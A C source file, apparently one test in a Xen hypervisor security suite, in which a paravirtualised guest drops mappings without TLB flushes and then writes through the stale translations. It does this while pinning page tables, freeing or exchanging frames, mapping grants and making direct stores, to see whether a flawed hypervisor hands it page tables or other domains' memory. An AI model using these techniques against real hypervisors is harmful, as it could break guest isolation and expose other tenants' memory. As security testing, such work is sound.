/* stale: writes through translations that the processor cached while they were allowed. Each time a page is touched, so
 * that its translation is cached, then made a page table or given back without any flush being asked for: in the same
 * table, in another level-4 table with the same address, by a grant mapping, by a direct store. Then it is touched again.
 * A broken hypervisor lets the stale store through: the guest holds a page table that it writes to as it likes, and with
 * it all of the machine's memory; or it reads and writes a frame that belongs to somebody else by now. */
#define NAME "stale"
#include "../attack.h"

#include <xen/grant_table.h>

static volatile uint64_t table[512] PAGE_ALIGNED;
static volatile uint64_t victim[512] PAGE_ALIGNED;
static volatile uint64_t window[512] PAGE_ALIGNED;
static volatile uint64_t second_l4[512] PAGE_ALIGNED;
static struct grant_entry_v1 grants[512] PAGE_ALIGNED;

#define VIRT_BASE_ADDRESS 0xffffffff80000000ul

/* Takes the writable mapping away, or changes it, without any flush. */
static long remap(volatile void *address, uint64_t entry) { return HYPERVISOR_update_va_mapping(address, entry, UVMF_NONE); }

static void as_table(const char *how, uint32_t pin) {
  uint64_t mfn = mfn_of(table);
  printf(NAME ": -- %s\n", how);
  memset((void *)table, 0, PAGE_SIZE);
  show("write to the page", (table[7] = 0, 0));
  show("make its mapping read-only, no flush", remap(table, frame(mfn, RO)));
  show("pin it", ext(pin, mfn));
  show_touch("write through the old translation", &table[7], 1);
  show("what the page holds", (long)table[7]);
  show("unpin it", ext(MMUEXT_UNPIN_TABLE, mfn));
  show("map it writable again", remap(table, frame(mfn, RW)));
}

/* The same by an alias whose entry goes away: nothing maps the page writable by then. */
static void by_alias(void) {
  uint64_t mfn = mfn_of(table);
  printf(NAME ": -- an alias\n");
  memset((void *)table, 0, PAGE_SIZE);
  show("map the page a second time", remap(window, frame(mfn, RW)));
  window[9] = 0;
  show("take the alias away, no flush", remap(window, 0));
  show("make the first mapping read-only", remap(table, frame(mfn, RO)));
  show("pin it", ext(MMUEXT_PIN_L1_TABLE, mfn));
  show_touch("write through the alias", &window[9], 1);
  show_touch("read through the alias", &window[9], 0);
  show("unpin it", ext(MMUEXT_UNPIN_TABLE, mfn));
  remap(table, frame(mfn, RW));
  remap(window, frame(mfn_of(window), RW));
}

/* A second level-4 table with the same address in it. The translation is made while that is the current one. */
static void by_other_table(void) {
  uint64_t mfn = mfn_of(table), l4 = mfn_of((void *)start_info->pt_base), other = mfn_of(second_l4);
  printf(NAME ": -- another level-4 table\n");
  memset((void *)table, 0, PAGE_SIZE);
  memcpy((void *)second_l4, (void *)start_info->pt_base, PAGE_SIZE);
  show("make it read-only", remap(second_l4, frame(other, RO)));
  show("pin it as L4", ext(MMUEXT_PIN_L4_TABLE, other));
  show("go there", ext(MMUEXT_NEW_BASEPTR, other));
  table[11] = 0;
  show("go back", ext(MMUEXT_NEW_BASEPTR, l4));
  table[11] = 0;
  show("make the page read-only, no flush", remap(table, frame(mfn, RO)));
  show("pin the page", ext(MMUEXT_PIN_L1_TABLE, mfn));
  show_touch("write here", &table[11], 1);
  show("go to the other table", ext(MMUEXT_NEW_BASEPTR, other));
  show_touch("write there", &table[11], 1);
  show("go back again", ext(MMUEXT_NEW_BASEPTR, l4));
  show("unpin the page", ext(MMUEXT_UNPIN_TABLE, mfn));
  show("unpin the other table", ext(MMUEXT_UNPIN_TABLE, other));
  remap(table, frame(mfn, RW));
  remap(second_l4, frame(other, RW));
}

/* The level-1 table goes, and with it all that it mapped, while its frames' translations are in the cache. */
static void by_level(void) {
  uint64_t l2 = entry_address(window, 2) + 8 * 200, mfn = mfn_of(table);
  volatile uint64_t *there = (volatile uint64_t *)(((uint64_t)window & ~0x3ffffffful) + l2 % PAGE_SIZE / 8 * 0x200000);
  printf(NAME ": -- a whole level-1 table that goes away\n");
  memset((void *)table, 0, PAGE_SIZE);
  table[0] = frame(mfn_of(victim), RW);
  remap(table, frame(mfn, RO));
  show("hook a table up in the L2", update(l2, frame(mfn, RW | _PAGE_USER)));
  if (entry_address(there, 2) != l2) show("the address is wrong", 0);
  there[3] = 77;
  show("what came through", (long)victim[3]);
  show("unhook it", update(l2, 0));
  show_touch("write through it", &there[3], 1);
  remap(table, frame(mfn, RW));
}

/* Puts the frame that memory_op gave at the page's place. */
static void put_back(const char *what, volatile uint64_t *page, uint64_t mfn) {
  ((uint64_t *)start_info->mfn_list)[((uint64_t)page - VIRT_BASE_ADDRESS) / PAGE_SIZE] = mfn;
  show(what, set_page(page, frame(mfn, RW)));
}

static void given_back(void) {
  uint64_t list[1] = {mfn_of(victim)};
  struct xen_memory_reservation r = {.extent_start = (uint64_t)list, .nr_extents = 1, .domid = DOMID_SELF};
  printf(NAME ": -- a frame given back\n");
  victim[5] = 5;
  show("take the mapping away, no flush", remap(victim, 0));
  show("give the frame back", HYPERVISOR_memory_op(XENMEM_decrease_reservation, &r));
  show_touch("read through the old translation", &victim[5], 0);
  show_touch("write through the old translation", &victim[6], 1);
  list[0] = ((uint64_t)victim - VIRT_BASE_ADDRESS) / PAGE_SIZE;
  show("get a frame", HYPERVISOR_memory_op(XENMEM_populate_physmap, &r));
  put_back("map it", victim, list[0]);
  show("it is writable", (victim[5] = 7, victim[5] == 7));
}

static void by_exchange(void) {
  uint64_t in[1] = {mfn_of(victim)}, out[1] = {((uint64_t)victim - VIRT_BASE_ADDRESS) / PAGE_SIZE};
  struct xen_memory_exchange x = {.in = {.extent_start = (uint64_t)in, .nr_extents = 1, .domid = DOMID_SELF},
                                  .out = {.extent_start = (uint64_t)out, .nr_extents = 1, .domid = DOMID_SELF}};
  printf(NAME ": -- a frame exchanged\n");
  victim[6] = 66;
  show("exchange it while mapped", HYPERVISOR_memory_op(XENMEM_exchange, &x));
  show("unmap it, no flush", remap(victim, 0));
  show("exchange it", HYPERVISOR_memory_op(XENMEM_exchange, &x));
  show("how many", (long)x.nr_exchanged);
  show_touch("read through the translation of the old frame", &victim[6], 0);
  show_touch("write through the translation of the old frame", &victim[7], 1);
  put_back("map the new one", victim, out[0]);
  show("it is writable", (victim[5] = 7, victim[5] == 7));
}

static void by_grant(void) {
  uint64_t mfn = mfn_of(table), frames[1];
  uint16_t self = own_domid();
  struct gnttab_setup_table setup = {.dom = DOMID_SELF, .nr_frames = 1, .frame_list = (uint64_t)frames};
  printf(NAME ": -- a grant mapping\n");
  HYPERVISOR_grant_table_op(GNTTABOP_setup_table, &setup, 1);
  remap(grants, frame(frames[0], RW));
  memset((void *)table, 0, PAGE_SIZE);
  grants[9].frame = (uint32_t)mfn;
  grants[9].domid = self;
  grants[9].flags = GTF_permit_access;
  set_page(window, 0);
  struct gnttab_map_grant_ref map = {.host_addr = (uint64_t)window, .flags = GNTMAP_host_map, .ref = 9, .dom = self};
  HYPERVISOR_grant_table_op(GNTTABOP_map_grant_ref, &map, 1);
  show("map the grant", map.status);
  window[13] = 0;
  show("make the page read-only elsewhere", remap(table, frame(mfn, RO)));
  show("pin it while granted", ext(MMUEXT_PIN_L1_TABLE, mfn));
  show_touch("write through the grant", &window[13], 1);
  struct gnttab_unmap_grant_ref unmap = {.host_addr = (uint64_t)window, .handle = map.handle};
  HYPERVISOR_grant_table_op(GNTTABOP_unmap_grant_ref, &unmap, 1);
  show("unmap the grant", unmap.status);
  show("pin it then", ext(MMUEXT_PIN_L1_TABLE, mfn));
  show_touch("write through the grant's old translation", &window[13], 1);
  show("unpin it", ext(MMUEXT_UNPIN_TABLE, mfn));
  /* Once more, but the entry is overwritten instead of unmapped. */
  remap(table, frame(mfn, RW));
  set_page(window, 0);
  HYPERVISOR_grant_table_op(GNTTABOP_map_grant_ref, &map, 1);
  show("map the grant again", map.status);
  window[13] = 0;
  show("overwrite its entry, no flush", remap(window, frame(mfn_of(victim), RO)));
  show("make the page read-only", remap(table, frame(mfn, RO)));
  show("pin it", ext(MMUEXT_PIN_L1_TABLE, mfn));
  show_touch("write through what was overwritten", &window[13], 1);
  show("unpin it", ext(MMUEXT_UNPIN_TABLE, mfn));
  remap(table, frame(mfn, RW));
  remap(window, frame(mfn_of(window), RW));
}

/* A direct store takes a mapping away; the old translation must not be what the next pin is fooled by. */
static void by_direct_store(void) {
  uint64_t mfn = mfn_of(table), l1 = table_of(table, 1), l1_entry = entry_address(table, 1);
  volatile uint64_t *slot = (uint64_t *)((char *)address_of_mfn(l1) + l1_entry % PAGE_SIZE);
  printf(NAME ": -- a direct store\n");
  show("enable writable_pagetables", HYPERVISOR_vm_assist(VMASST_CMD_enable, VMASST_TYPE_writable_pagetables));
  memset((void *)table, 0, PAGE_SIZE);
  table[15] = 0;
  *slot = frame(mfn, RO);
  show("pin the page after that", ext(MMUEXT_PIN_L1_TABLE, mfn));
  show_touch("write through the old translation", &table[15], 1);
  show("what it became", (long)table[15]);
  show("unpin it", ext(MMUEXT_UNPIN_TABLE, mfn));
  *slot = frame(mfn, RW);
  table[15] = 15;
  show("written directly now", (long)table[15]);
}

void guest_main(void) {
  as_table("a level-1 table", MMUEXT_PIN_L1_TABLE);
  as_table("a level-2 table", MMUEXT_PIN_L2_TABLE);
  as_table("a level-3 table", MMUEXT_PIN_L3_TABLE);
  as_table("a level-4 table", MMUEXT_PIN_L4_TABLE);
  by_alias();
  by_other_table();
  by_level();
  given_back();
  by_exchange();
  by_grant();
  by_direct_store();
  printf(NAME ": done\n");
}
